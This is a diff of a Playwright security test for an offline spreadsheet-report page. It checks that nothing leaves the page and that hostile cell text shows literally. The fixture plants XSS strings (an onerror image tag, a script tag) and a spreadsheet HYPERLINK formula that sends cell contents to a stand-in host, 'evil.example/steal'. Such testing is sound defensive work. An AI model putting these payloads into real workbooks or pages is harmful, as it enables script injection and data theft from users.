@@ -1,5 +1,5 @@
-// Nothing leaks, nothing runs: the browser preview in Chromium, every request recorded through a full check and report,
-// and hostile cell text (markup, formulas) shown literally. Needs /usr/bin/chromium and build/preview.html.
+// Nothing leaks, nothing runs: the offline page (served over http) in Chromium, every request recorded through a full
+// check and report, and hostile cell text (markup, formulas) shown literally. Needs /usr/bin/chromium and build/index.html.
 import ExcelJS from 'exceljs';
 import type { Browser, Page } from 'playwright-core';
 import type { BuildServer } from '../../scripts/serve-build';
@@ -10,16 +10,16 @@ const XSS = '<img src=x onerror=alert(1)>';
 const FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"点我")';
 
 /** The sample with markup as the unit name and a formula-looking text in the score sheet's unit cell. */
-async function hostileSample(): Promise<string> {
+async function hostileSample(): Promise<Buffer> {
   const wb = new ExcelJS.Workbook();
   await wb.xlsx.readFile(SAMPLE_PATH);
   wb.getWorksheet('自评数据表')!.getCell('B2').value = XSS;
   wb.getWorksheet('自评评分表')!.getCell('B2').value = FORMULA;
   wb.getWorksheet('报告素材')!.getCell('B15').value = `<script>alert(2)</script>${XSS}`;
-  return Buffer.from(await wb.xlsx.writeBuffer()).toString('base64');
+  return Buffer.from(await wb.xlsx.writeBuffer());
 }
 
-describe('browser preview: nothing leaves the page, cell text stays text', () => {
+describe('offline page: nothing leaves the page, cell text stays text', () => {
   let server: BuildServer;
   let browser: Browser;
   let page: Page;
@@ -41,20 +41,11 @@ describe('browser preview: nothing leaves the page, cell text stays text', () =>
     });
     // Record, never deliver: a request off the page's origin is aborted (and fails the test below).
     await page.route(/^https?:\/\/(?!127\.0\.0\.1)/, (route) => route.abort());
-    await page.goto(`${server.url}/preview.html`);
-    await page.waitForFunction(
-      () => (window as unknown as { __zipingHost?: { ready: Promise<unknown> } }).__zipingHost !== undefined,
-    );
-    await page.evaluate(
-      async (bytes) => {
-        const host = (
-          window as unknown as { __zipingHost: { ready: Promise<unknown>; loadWorkbook(b: string): Promise<void> } }
-        ).__zipingHost;
-        await host.ready;
-        await host.loadWorkbook(bytes);
-      },
-      await hostileSample(),
-    );
+    await page.goto(`${server.url}/`);
+    await page
+      .locator('input[type=file]')
+      .setInputFiles({ name: 'hostile.xlsx', mimeType: 'application/octet-stream', buffer: await hostileSample() });
+    await page.getByRole('tab', { name: '报告' }).waitFor({ timeout: 60_000 });
   }, 180_000);
 
   afterAll(() => closeBuiltPages({ server, browser }));
